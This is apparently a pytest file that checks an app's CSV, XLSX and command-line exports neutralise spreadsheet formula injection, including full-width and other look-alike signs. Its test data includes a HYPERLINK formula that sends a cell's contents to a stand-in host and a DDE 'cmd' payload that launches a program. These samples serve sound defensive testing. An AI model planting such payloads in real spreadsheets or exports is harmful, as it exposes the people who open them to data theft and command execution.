"""Formula injection, every writer (issue 21): the one rule (linnedata.export.neutralise)
reaches every CSV and XLSX the app and the command line write, for ASCII, full-width and
other NFKC look-alike formula signs at the start of a cell or after a separator."""

from __future__ import annotations

import io
import unicodedata
from collections.abc import Callable

import pandas as pd
import pytest

from linnedata import export

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"klicka")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "Växjö;=1+1",
    "Växjö,=1+1",
    "Växjö; +1",
    "a|=1",
    "rad ett\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "a，＝1",
    "a；＠SUM(1)",
    "﹦1+1",  # small equals sign
    "\u3000=1+1",  # ideographic space, then =
    "\u00a0@SUM(1)",
    " =1",
]
SIGNS = ("=", "+", "-", "@")


def _risky(piece: str) -> bool:
    """Whether a spreadsheet could read ``piece`` (one cell after a split) as a formula,
    also after folding look-alikes (NFKC)."""
    folded = unicodedata.normalize("NFKC", piece).lstrip(' "\u00a0')
    return folded[:1] in SIGNS or (folded[:1] in ("\t", "\r") and folded[1:2] in SIGNS)


def _csv_pieces(text: str) -> list[str]:
    """Every piece a spreadsheet splitting on any separator (ignoring quotes) might make."""
    pieces = [text]
    for separator in ("\n", "\r", ";", ",", "\t", "|", "；", "，"):
        pieces = [p for piece in pieces for p in piece.split(separator)]
    return pieces


def _table() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "fritext": HOSTILE,
            "＝rubrik": ["x"] * len(HOSTILE),
            "andel_angelaget": [0.5] * len(HOSTILE),
            "n": [3.0] * len(HOSTILE),
        }
    )


HEADER = ["=rubrikrad", "Källa: ＋SCB"]

CSV_WRITERS: dict[str, Callable[[pd.DataFrame], bytes]] = {
    "csv_bytes": lambda t: export.csv_bytes(t, HEADER),
    "csv_text": lambda t: export.csv_text(t).encode(),
    "person_csv sv": lambda t: export.person_csv(t, "sv", HEADER, {"andel_angelaget"}),
    "person_csv en": lambda t: export.person_csv(t, "en", HEADER, {"andel_angelaget"}),
}


@pytest.mark.parametrize("writer", CSV_WRITERS, ids=list(CSV_WRITERS))
def test_no_piece_of_a_written_csv_can_start_a_formula(writer: str) -> None:
    text = CSV_WRITERS[writer](_table()).decode("utf-8-sig")
    assert [p for p in _csv_pieces(text) if _risky(p)] == []
    # … and the words are all still there.
    for value in ("HYPERLINK", "cmd|' /C calc'!A0", "SUM(1)", "Växjö", "rubrik"):
        assert value in text


def _xlsx_cells(data: bytes) -> list[object]:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula cell at all
    return [c.value for c in cells if isinstance(c.value, str)]


XLSX_WRITERS: dict[str, Callable[[pd.DataFrame], bytes]] = {
    "xlsx_bytes": lambda t: export.xlsx_bytes({"=blad": t}, HEADER),
    "xlsx person": lambda t: export.xlsx_bytes({"Data": export.person_table(t, "sv")}, HEADER),
}


@pytest.mark.parametrize("writer", XLSX_WRITERS, ids=list(XLSX_WRITERS))
def test_no_cell_of_a_written_workbook_is_or_starts_a_formula(writer: str) -> None:
    texts = _xlsx_cells(XLSX_WRITERS[writer](_table()))
    assert [t for t in texts for p in _csv_pieces(t) if _risky(p)] == []
    assert any("HYPERLINK" in t for t in texts)


@pytest.mark.parametrize("value", HOSTILE)
def test_the_rule_keeps_every_character_and_only_adds_apostrophes(value: str) -> None:
    safe = export.neutralise(value)
    assert safe != value
    assert safe.replace("'", "") == value.replace("'", "")


@pytest.mark.parametrize(
    "value", ["Växjö", "2020–2024", "bostad, skola", "a-b", "e-post: x", 3, -3.5, None]
)
def test_harmless_values_are_left_alone(value: object) -> None:
    assert export.neutralise(value) == value


# --- the command line's tables: competence list, search-text, projects, export ------------------


@pytest.fixture
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A store whose competence list and free-text answers hold formula payloads."""
    import csv

    from linnedata.cli import main
    from linnedata.competence.registry import read_researchers
    from linnedata.paths import DATA_DIR
    from linnedata.store import Store

    folder = tmp_path_factory.mktemp("hostile")
    url = f"sqlite:///{folder}/store.sqlite"
    # The list's reader refuses a cell that starts like a formula (issue 25); a store written
    # before that rule (or edited by hand) may still hold one, so the rows are saved as such.
    registry = folder / "forskare.csv"
    with registry.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["forskare", "forskningsmiljo", "omraden", "kapacitet", "samverkansformer"])
        for n in range(6):
            writer.writerow([f"Forskare {n}", "Miljö", "Bostadsplanering", "2", "Analys"])
    table = read_researchers(registry)
    table["forskare"] = [f"{payload} {n}" for n, payload in enumerate(HOSTILE[:6])]
    table["forskningsmiljo"] = HOSTILE[:6]
    Store(url).save_registry(table, user="test")
    rows = list(csv.reader((DATA_DIR / "demo" / "enkat_2024.csv").open(encoding="utf-8")))
    for row, payload in zip(rows[1:], HOSTILE * 20, strict=False):
        row[-1] = f"{payload} bostad"
    survey = folder / "enkat.csv"
    with survey.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(rows)
    assert main(["import", str(survey), "--round", "2024", "--db", url]) == 0
    return url


CLI_TABLES = {
    "competence list": ["competence", "list"],
    "search-text": ["search-text", "bostad"],
    "export responses": ["export", "--round", "2024", "--level", "responses"],
    "projects": ["projects", "--round", "2024"],
}


@pytest.mark.parametrize("command", CLI_TABLES, ids=list(CLI_TABLES))
def test_no_piece_of_a_command_line_table_can_start_a_formula(
    hostile_store: str, command: str, capsys: pytest.CaptureFixture[str]
) -> None:
    from linnedata.cli import main

    capsys.readouterr()
    assert main([*CLI_TABLES[command], "--db", hostile_store]) == 0
    text = capsys.readouterr().out
    assert len(text.splitlines()) > 1
    assert [p for p in _csv_pieces(text) if _risky(p)] == []
    if command != "projects":  # the groups table names no free text
        assert "HYPERLINK" in text
